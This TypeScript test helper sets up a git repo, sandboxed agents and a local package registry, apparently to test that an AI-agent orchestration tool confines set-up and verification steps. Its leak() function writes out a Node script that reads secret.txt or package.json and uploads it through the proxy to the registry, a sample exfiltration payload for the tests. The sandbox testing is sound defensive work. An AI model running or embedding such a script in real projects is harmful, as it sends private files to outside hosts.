import { chmodSync, existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { onTestFinished } from "vitest";
import { createSupervisor } from "../../src/adapters/sandbox/processes/process-supervisor.ts";
import { createPatterns } from "../../src/adapters/text/patterns.ts";
import { readSettings } from "../../src/core/config/settings/settings.ts";
import { stageOf } from "../../src/core/run/run.ts";
import type { Verdict } from "../../src/core/verify/verdict.ts";
import type { AttemptContext } from "../../src/engine/attempt/restore-work.ts";
import { runSetup } from "../../src/engine/attempt/run-setup.ts";
import type { Engine } from "../../src/engine/engine.ts";
import { checkDeps } from "../../src/engine/verify/check-deps.ts";
import { verifyCommit } from "../../src/engine/verify/verify-commit.ts";
import { openAgents } from "../../src/wiring/agents.ts";
import { aRun } from "./a-run.ts";
import { makeBench, makeRepo, tempFolder, writeFiles } from "./git-repo.ts";
import { type Registry, startRegistry, type TestPackage } from "./package-registry.ts";
import type { StageFields } from "./plan-text.ts";

export type SetUpWorldOptions = {
  /** Of the commit that the run starts from. */
  readonly base: (registry: Registry) => Readonly<Record<string, string>>;
  readonly stage: Omit<StageFields, "id">;
  readonly packages?: readonly TestPackage[];
  readonly env?: Readonly<Record<string, string>>;
};

/** A repository, real sandboxes, and a registry that set-up may reach by the operator's word. */
export async function makeSetUpWorld({ base, stage, packages = [], env = {} }: SetUpWorldOptions) {
  const registry = await startRegistry(...packages);
  const repo = makeRepo(base(registry));
  const { workspace } = await makeBench(repo);
  const start = repo.sha("HEAD");
  const folder = tempFolder();
  const supervisor = createSupervisor();
  const agents = await openAgents({
    supervisor,
    env: { PATH: process.env.PATH, HOME: process.env.HOME, LOOM_SANDBOX: "bubblewrap" },
    cwd: repo.root,
    folder,
    runsAgents: true,
  });
  onTestFinished(async () => {
    await agents.sandboxes.close();
    await supervisor.close();
  });
  const { settings } = readSettings(
    { LOOM_HARNESS: "command", LOOM_SETUP_DOMAINS: registry.host, ...env },
    { harness: null, maxParallel: null },
    { maxParallel: null },
  );
  const { run } = aRun([{ id: "one", ...stage }], { hosted: { base: start, settings } });
  const plan = stageOf(run, "one").plan;
  // All that set-up and checks ask of an engine. What they write down concerns nobody here.
  const engine = {
    ...agents,
    patterns: createPatterns(),
    workspaceFor: () => workspace,
    projectRoot: repo.root,
    now: Date.now,
    runs: { write: async () => run },
  } as unknown as Engine;
  const claim = { run: run.id, stage: "one", attempt: 1, token: "token" };

  return {
    registry,
    repo,
    workspace,
    start,
    /** What stands in the folder of homes. */
    homes: () => (existsSync(join(folder, "homes")) ? readdirSync(join(folder, "homes")) : []),
    /** A commit with these files on top of another, as an agent may have made it; null removes. */
    commit(files: Readonly<Record<string, string | null>>, parent = start): string {
      repo.git("checkout", "-q", "--force", "--detach", parent);
      for (const [path, text] of Object.entries(files)) {
        if (text === null) repo.git("rm", "-q", "-r", path);
        else {
          writeFiles(repo.root, { [path]: text });
          if (text.startsWith("#!")) chmodSync(join(repo.root, path), 0o755);
        }
      }
      repo.git("add", "--all", "--force");
      repo.git("commit", "-q", "--allow-empty", "-m", "Change");
      return repo.sha("HEAD");
    },
    /** The proof of a commit. */
    prove: (commit: string, onto = start): Promise<Verdict> =>
      verifyCommit(checkDeps(engine, run, claim), {
        plan: run.plan,
        stage: plan,
        gate: [],
        commit,
        base: onto,
        projectRoot: repo.root,
        marker: claim.token,
      }),
    /** The set-up of an agent's tree that stands on one commit and holds another. */
    async prepare(base: string, content: string) {
      const tree = await workspace.open(base);
      if (content !== base) await workspace.fill(tree, content);
      const attempt = {
        engine,
        claim,
        run,
        plan,
        workspace,
        tree,
        base,
        abort: new AbortController().signal,
      };
      return { tree, failure: await runSetup(attempt as unknown as AttemptContext, content) };
    },
  };
}

export type SetUpWorld = Awaited<ReturnType<typeof makeSetUpWorld>>;

/**
 * A program that sends a file of the project to the registry, by the way that set-up's downloads take; its argument says how it
 * came to run.
 */
export function leak({ host }: Pick<Registry, "host">): string {
  return `const { request } = require("node:http");
const { existsSync, readFileSync } = require("node:fs");
const code = readFileSync(existsSync("secret.txt") ? "secret.txt" : "package.json");
const proxy = new URL(process.env.HTTP_PROXY);
const path = "http://${host}/leak/" + (process.argv[2] || "");
const sending = request({ host: proxy.hostname, port: proxy.port, method: "PUT", path });
sending.on("error", () => {});
sending.end(code);
`;
}
